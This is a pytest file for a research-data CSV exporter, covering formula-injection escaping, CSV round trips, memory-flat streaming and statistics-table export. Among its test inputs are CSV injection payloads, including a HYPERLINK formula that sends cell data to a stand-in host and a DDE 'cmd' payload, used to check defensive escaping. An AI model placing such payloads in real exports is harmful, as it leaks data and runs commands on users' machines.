"""studies.export: formula neutralisation, CSV round trips, constant-memory streaming, tables."""
import csv
import io
import random
import tracemalloc
from decimal import Decimal

import pytest

from studies.export import FORMULA_TRIGGERS, escape_csv_cell, stream_csv, table_to_csv_rows
from studies.stats import table5, table6


def read_back(chunks):
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", [
    "=1+2", '=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "-A1",
    "@SUM(1,2)", "\t=1+2", "\r=1+2", "\n=1", "\0=1", "\uff1d1+2", "=cmd|' /C calc'!A0", "-", "+", "=",
    "-inf", "-nan",
])
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert escape_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "hello", "", "a=b", "1+2", "dog barking", "Ünïcödé 音", " =1 (leading space is text)",
    "-3", "-2.5", "+4", "-1e-3", "-.5", "0.25",
])
def test_ordinary_text_and_plain_number_strings_are_unchanged(cell):
    assert escape_csv_cell(cell) == cell


@pytest.mark.parametrize("value", [-3, 0, 12, -2.5, 1e-9, Decimal("-1.50")])
def test_numbers_stay_numbers(value):
    assert escape_csv_cell(value) is value


def test_other_values():
    assert escape_csv_cell(None) == ""
    assert escape_csv_cell(True) == "True"
    assert escape_csv_cell(float("-inf")) == "'-inf"   # not a number a spreadsheet reads
    assert escape_csv_cell(float("nan")) == "nan"


def test_no_cell_read_back_starts_a_formula():
    rng = random.Random(0)
    alphabet = "=+-@\t\r\n,\"' abc123.\uff1d"
    cells = ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 8))) for _ in range(3000)]
    (row,) = read_back(stream_csv([f"c{i}" for i in range(len(cells))], [cells]))[1:]
    for original, cell in zip(cells, row):
        if cell and cell[0] in FORMULA_TRIGGERS:
            assert cell == original and float(cell) == float(original)   # only plain numbers
        else:
            assert cell in (original, "'" + original)


def test_commas_quotes_newlines_round_trip_through_csv_reader():
    rows = [["a,b", 'say "hi"', "line1\nline2", "crlf\r\nend", "ünï,cödé"],
            [-3, 2.5, None, "x", ""]]
    back = read_back(stream_csv(["one", "two", "three", "four", "five"], rows))
    assert back[0] == ["one", "two", "three", "four", "five"]
    assert back[1] == rows[0]
    assert back[2] == ["-3", "2.5", "", "x", ""]


def test_mapping_rows_chunking_and_bom():
    header = ["participant", "answer"]
    rows = [{"participant": f"p{i}", "answer": i % 5 + 1, "ignored": "x"} for i in range(7)]
    one = list(stream_csv(header, rows))
    three = list(stream_csv(header, rows, lines_per_chunk=3))
    assert len(one) == 8 and len(three) == 4   # header, then 3 + 3 + 1 rows
    assert b"".join(one) == b"".join(three)
    assert one[0] == b"participant,answer\r\n" and one[1] == b"p0,1\r\n"
    assert next(stream_csv(header, [], bom=True)).startswith("\ufeff".encode())


def test_stream_csv_is_lazy_and_rejects_bad_rows():
    def rows():
        yield ["ok", 1]
        raise AssertionError("must not be pulled before the consumer asks")
    stream = stream_csv(["a", "b"], rows())
    assert next(stream) == b"a,b\r\n"
    with pytest.raises(ValueError, match="row 1 has 3 cells but the header has 2"):
        list(stream_csv(["a", "b"], [[1, 2, 3]]))
    with pytest.raises(ValueError, match="no value for column 'b'"):
        list(stream_csv(["a", "b"], [{"a": 1}]))
    with pytest.raises(ValueError, match="non-empty header"):
        list(stream_csv([], []))
    with pytest.raises(ValueError, match="lines_per_chunk"):
        list(stream_csv(["a"], [], lines_per_chunk=0))


def _peak_streaming(n_rows):
    def rows():
        for i in range(n_rows):
            yield (i, f"participant-{i % 997}", -0.5 * i, "=HYPERLINK(1)" if i % 1000 == 0 else 'dog, "bark"')
    tracemalloc.start()
    try:
        total = n_lines = 0
        for chunk in stream_csv(["n", "who", "x", "note"], rows()):
            total += len(chunk)
            n_lines += 1
        return tracemalloc.get_traced_memory()[1], n_lines, total
    finally:
        tracemalloc.stop()


def test_streaming_memory_is_flat_for_100k_rows():
    peak, n_lines, total = _peak_streaming(100_000)
    assert n_lines == 100_001 and total > 3_000_000
    assert peak < 2 * 1024 * 1024


@pytest.mark.slow   # ~30 s under tracemalloc on this machine (about 3 s without it)
def test_streaming_a_million_rows_keeps_memory_flat():
    peak, n_lines, total = _peak_streaming(1_000_000)
    assert n_lines == 1_000_001 and total > 40_000_000
    assert peak < 20 * 1024 * 1024


# --------------------------------------------------------------------------- tables as CSV
VOTES = [{"rater": f"r{r}", "condition": c, "item": i, "score": 1 + (r + i + k) % 5}
         for r in range(6) for k, c in enumerate(["base", "+hinge", "=evil"]) for i in range(4)]
ANSWERS = [{"rater": f"r{n % 5}", "item": n, "sound_class": "dog" if n % 2 else "drum",
            "answer": ("positive", "negative", "neither")[n % 3]} for n in range(30)]


def test_table5_wide_sections_carry_the_same_numbers():
    result = table5(VOTES, ["base", "+hinge", "=evil"])
    header, rows = table_to_csv_rows(result, "conditions")
    back = read_back(stream_csv(header, rows))
    assert back[0][:6] == ["condition", "position", "n_votes", "n_raters", "n_items", "mean"]
    assert [float(r[5]) for r in back[1:]] == [row.mean for row in result.conditions]
    assert back[3][0] == "'=evil"                  # a condition name is neutralised too
    header, rows = table_to_csv_rows(result.to_dict(), "pairwise")
    assert len(rows) == 3 and header[0] == "condition_a"


def test_table5_long_format_and_summary_include_screening():
    screening = {"raters_before": 7, "raters_after": 6, "votes_before": 84, "votes_after": 72,
                 "excluded": [{"rater": "r6", "reason": "passed 1 of 4 catch trials"}], "rule": {}}
    result = table5(VOTES, ["base", "+hinge", "=evil"], screening=screening)
    header, rows = table_to_csv_rows(result)
    assert header == ["section", "row", "metric", "value"]
    means = {(r[1]): r[3] for r in rows if r[0] == "conditions" and r[2] == "mean"}
    assert means == {row.condition: row.mean for row in result.conditions}
    summary = dict(table_to_csv_rows(result, "summary")[1])
    assert summary["krippendorff_alpha"] == result.krippendorff_alpha
    assert (summary["screening.raters_before"], summary["screening.votes_after"]) == (7, 72)
    assert summary["screening.excluded.r6.reason"] == "passed 1 of 4 catch trials"


def test_table6_sections():
    result = table6(ANSWERS, n_boot=200)
    header, rows = table_to_csv_rows(result, "overall")
    assert len(rows) == 1 and rows[0][header.index("positive_count")] == 10
    header, rows = table_to_csv_rows(result, "per_class")
    assert [r[0] for r in rows] == ["dog", "drum"]
    header, rows = table_to_csv_rows(result)
    assert ["overall", "all", "positive_share", 10 / 30] in rows


def test_table_to_csv_rows_bad_input():
    with pytest.raises(ValueError, match="kind 'table5' or 'table6'"):
        table_to_csv_rows({"conditions": []})
    with pytest.raises(ValueError, match="not one of"):
        table_to_csv_rows(table6(ANSWERS, n_boot=200), "conditions")
